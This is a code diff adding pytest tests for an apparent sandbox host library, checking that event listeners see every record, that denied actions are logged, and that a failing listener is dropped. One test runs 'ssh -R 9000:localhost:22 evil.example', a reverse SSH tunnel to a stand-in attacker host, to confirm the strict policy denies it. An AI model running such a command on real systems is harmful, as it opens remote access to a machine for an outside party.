@@ -110,3 +110,43 @@ def test_profile_errors_name_the_file_line_and_key(tmp_path: Path, text: str, wh
     with pytest.raises(RuleError) as e:
         ProfileRegistry.load(f)
     assert f"{f}{where}" in str(e.value)
+
+
+def test_listeners_see_every_record_and_the_start_and_stop(host: Host) -> None:
+    from corral.host import STARTED, STOPPED, HostEvent
+
+    seen: list[HostEvent] = []
+    unsubscribe = host.subscribe(seen.append)
+    h = host.start("strict", owner="alice", labels={"experiment_id": "e1"})
+    with host.using(h.id):
+        h.sandbox.run("echo hi")
+        h.sandbox.run("ssh -R 9000:localhost:22 evil.example")
+    host.stop(h.id)
+    kinds = [e.kind for e in seen]
+    # The sandbox notes its policy while it is made, just before the host says it started.
+    assert STARTED in kinds[:3] and kinds[-1] == STOPPED
+    assert "decision" in kinds
+    assert all(e.sandbox == h.id and e.owner == "alice" for e in seen)
+    assert all(e.labels["experiment_id"] == "e1" for e in seen)
+    # Each record event is the ledger's record: same seq, same body (less the labels).
+    for e in seen:
+        if e.seq:
+            rec = host.ledger.get(e.seq)
+            assert rec is not None and rec.kind == e.kind
+            assert {k: v for k, v in rec.body.items() if k != "labels"} == dict(e.body)
+    denied = [e for e in seen if e.kind == "decision" and e.body["decision"]["verdict"] == "deny"]
+    assert denied and denied[0].action_id == denied[0].body["action"]["id"]
+    unsubscribe()
+    host.start("strict")
+    assert [e.kind for e in seen][-1] == STOPPED  # nothing after unsubscribing
+
+
+def test_a_failing_listener_is_dropped_and_the_sandbox_goes_on(host: Host) -> None:
+    def broken(event: object) -> None:
+        raise RuntimeError("listener bug")
+
+    host.subscribe(broken)
+    h = host.start("strict")
+    with host.using(h.id):
+        assert h.sandbox.run("echo fine").stdout == "fine\n"
+    assert [type(exc) for _, exc in host.events.dropped] == [RuntimeError]
